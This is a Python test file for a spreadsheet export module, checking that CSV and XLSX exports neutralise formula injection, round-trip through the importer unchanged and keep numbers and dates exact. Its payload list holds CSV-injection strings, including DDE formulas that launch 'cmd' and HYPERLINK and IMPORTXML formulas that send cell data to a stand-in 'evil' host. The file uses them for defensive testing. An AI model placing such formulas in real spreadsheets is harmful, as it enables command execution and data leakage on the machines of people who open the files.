"""S7: exports are inert and come back through the importer unchanged."""

from __future__ import annotations

import csv
import datetime as dt
import functools
import io
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
import xlsxwriter
from hypothesis import given
from hypothesis import strategies as st

from ops.engines.kernel import parse
from ops.engines.tables import writer
from ops.engines.tables.errors import CellTooLong
from ops.engines.tables.inert import is_risky, mark, unmark
from ops.engines.tables.intake import open_intake
from ops.engines.tables.profile import Column, Profile
from tests.support.cells import acting, cells

LEADS = ["", " ", "\t", "\r", "\n", "\u00a0", "\u3000", "'", '"', "''", ";", "|", ",", "\ufeff"]
FORMULAS = [
    *("=1+1", "+1", "-1", "@SUM(A1)", "＝1+1", "＋1", "－1", "＠SUM(1)", "-", "=", "+86 138"),
    '=HYPERLINK("http://evil/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=WEBSERVICE("http://127.0.0.1/")',
    '=IMPORTXML(CONCAT("http://evil/",A1),"//a")',
    '=DDE("cmd";"/C calc";"__")',
    "-2+3+cmd|' /C calc'!A0",
    "{=1+1}",
    ";=1",
    "=1;2",
    "{{7*7}}",
    "=a\r\n=b",
]
PAYLOADS = sorted({lead + formula for lead in LEADS for formula in FORMULAS})
COLUMNS = (writer.Column("name", "名称"), writer.Column("qty", "数量", "integer"))
BACK = Profile(
    "back",
    "Back",
    columns=(
        Column("name", headers=("名称",), parse=str),
        Column("qty", headers=("数量",), parse=functools.partial(parse.quantity, least=-(10**12))),
    ),
)


def exported(kind: str, path: Path, rows: list[tuple[str, int]]) -> Path:
    if kind == "xlsx":
        writer.write_xlsx(COLUMNS, rows, path)
    else:
        with path.open("wb") as stream:
            writer.write_csv(COLUMNS, rows, stream)
    return path


def test_there_are_hundreds_of_payloads() -> None:
    assert len(PAYLOADS) >= 300


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_import_of_export_is_the_same(kind: str, tmp_path: Path) -> None:
    rows = [(payload, -5) for payload in PAYLOADS]

    path = exported(kind, tmp_path / f"a.{kind}", rows)
    with open_intake(path, BACK, name=path.name) as intake:
        back = [(row.values["name"], row.values["qty"]) for row in intake.rows()]

    assert back == rows
    assert intake.rejects == []


def test_a_csv_read_without_us_holds_no_formula_and_keeps_its_numbers(tmp_path: Path) -> None:
    path = exported("csv", tmp_path / "a.csv", [(payload, -5) for payload in PAYLOADS])

    with path.open(encoding="utf-8-sig", newline="") as stream:
        _header, *cells = csv.reader(stream)

    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    assert {cell[1] for cell in cells} == {"-5"}
    for name, _quantity in cells:
        assert not is_risky(name) or name.startswith("'")


def test_a_workbook_read_by_another_library_holds_no_formula(tmp_path: Path) -> None:
    path = exported("xlsx", tmp_path / "a.xlsx", [(payload, -5) for payload in PAYLOADS])

    sheet = openpyxl.load_workbook(path)["Data"]
    cells = list(sheet.iter_rows(min_row=2))

    assert len(cells) == len(PAYLOADS)
    for name, quantity in cells:
        assert name.data_type == "s"
        assert name.quotePrefix or not is_risky(str(name.value))
        assert (quantity.data_type, quantity.value) == ("n", -5)


def test_a_workbook_says_itself_that_nothing_in_it_acts(tmp_path: Path) -> None:
    data = exported("xlsx", tmp_path / "a.xlsx", [(p, -5) for p in PAYLOADS]).read_bytes()

    found = list(cells(data))

    assert acting(data) == []
    assert [one.text for one in found if one.kind == "number"] == ["-5"] * len(PAYLOADS)
    assert {unmark(one.text) for one in found if one.kind == "text"} >= set(PAYLOADS)


def test_the_reader_of_cells_sees_a_formula_a_link_and_a_name(tmp_path: Path) -> None:
    with xlsxwriter.Workbook(str(tmp_path / "a.xlsx")) as book:
        sheet = book.add_worksheet()
        sheet.write_formula(0, 0, "=1+1")
        sheet.write_url(1, 0, "http://127.0.0.1/")
        sheet.data_validation(2, 0, 2, 0, {"validate": "custom", "value": "=1+1"})
        book.define_name("beside", "=Sheet1!$A$1")

    found = " ".join(acting((tmp_path / "a.xlsx").read_bytes()))

    for one in (": f", ": hyperlink", ": dataValidation", "name beside", "sheet1.xml.rels"):
        assert one in found


@given(st.text(st.characters(exclude_categories=["Cs"])))
def test_the_mark_is_a_bijection(text: str) -> None:
    assert unmark(mark(text)) == text
    assert not is_risky(text) or mark(text).startswith("'")


@pytest.mark.parametrize(
    ("kind", "value", "csv_text", "cell"),
    [
        ("integer", -5, "-5", -5),
        ("integer", 123456789012345678, "123456789012345678", "123456789012345678"),
        ("money", Decimal("-0.07"), "-0.07", -0.07),
        ("money", Decimal("12345678901234.56"), "12345678901234.56", "12345678901234.56"),
        ("decimal", Decimal("1E-6"), "0.000001", 0.000001),
        ("rate", Decimal("0.05"), "0.05", 0.05),
        ("text", "007", "007", "007"),
        ("text", "123456789012345678", "123456789012345678", "123456789012345678"),
        ("date", dt.date(2026, 11, 20), "2026-11-20", dt.datetime(2026, 11, 20)),  # noqa: DTZ001
        ("date", dt.date(1900, 1, 1), "1900-01-01", "1900-01-01"),
        (
            "datetime",
            dt.datetime(2026, 11, 19, 16, 0, 1, tzinfo=dt.UTC),
            "2026-11-20 00:00:01",
            dt.datetime(2026, 11, 20, 0, 0, 1),  # noqa: DTZ001
        ),
    ],
)
def test_values_are_exact_in_both_formats(
    kind: writer.Kind, value: object, csv_text: str, cell: object, tmp_path: Path
) -> None:
    columns = (writer.Column("v", "V", kind),)
    stream = io.BytesIO()

    writer.write_csv(columns, [(value,), (None,)], stream)
    writer.write_xlsx(columns, [(value,), (None,)], tmp_path / "a.xlsx")

    assert stream.getvalue().decode("utf-8-sig").splitlines()[1] == csv_text
    sheet = openpyxl.load_workbook(tmp_path / "a.xlsx").worksheets[0]
    assert sheet["A2"].value == cell
    assert sheet["A3"].value is None


def test_exact_decimals_survive_the_way_through_a_workbook(tmp_path: Path) -> None:
    amounts = [Decimal(cents) / 100 for cents in (*range(1, 400, 7), 99999999999999)]
    columns = (writer.Column("a", "a", "money"),)
    profile = Profile("m", "M", columns=(Column("a", parse=parse.money),))
    writer.write_xlsx(columns, [(amount,) for amount in amounts], tmp_path / "a.xlsx")

    with open_intake(tmp_path / "a.xlsx", profile, name="a.xlsx") as intake:
        assert [row.values["a"] for row in intake.rows()] == amounts


@pytest.mark.parametrize(
    ("kind", "value"),
    [
        ("integer", "5"),
        ("money", 1.5),
        ("integer", True),
        ("money", Decimal("NaN")),
        ("date", dt.datetime(2026, 1, 1, tzinfo=dt.UTC)),
        ("datetime", dt.datetime(2026, 1, 1)),  # noqa: DTZ001
    ],
)
def test_a_value_of_another_kind_is_a_mistake(kind: writer.Kind, value: object) -> None:
    with pytest.raises(TypeError):
        writer.write_csv((writer.Column("v", "V", kind),), [(value,)], io.BytesIO())


def test_notes_are_a_second_sheet_and_the_bytes_are_repeatable(tmp_path: Path) -> None:
    at = dt.datetime(2026, 11, 20, tzinfo=dt.UTC)

    def make(name: str) -> bytes:
        notes = {"查询": "=状态", "人": "陈立"}
        writer.write_xlsx(COLUMNS, [("a", 1)], tmp_path / name, notes=notes, at=at)
        return (tmp_path / name).read_bytes()

    first, second = make("a.xlsx"), make("b.xlsx")

    assert first == second
    rows = list(openpyxl.load_workbook(tmp_path / "a.xlsx")["Notes"].values)
    assert ("查询", "=状态") in rows
    assert rows[-1] == ("Rows", "1")


def test_text_too_long_for_a_cell_is_refused_not_cut(tmp_path: Path) -> None:
    with pytest.raises(CellTooLong, match="CSV"):
        writer.write_xlsx(COLUMNS, [("x" * 32_768, 1)], tmp_path / "a.xlsx")

    assert not (tmp_path / "a.xlsx").exists()


def test_csv_streams_in_blocks() -> None:
    taken: list[int] = []

    def rows() -> object:
        for number in range(10_000):
            taken.append(number)
            yield ("a", number)

    blocks = writer.csv_blocks(COLUMNS, rows())  # type: ignore[arg-type]
    next(blocks)
    next(blocks)

    assert len(taken) < 5_000
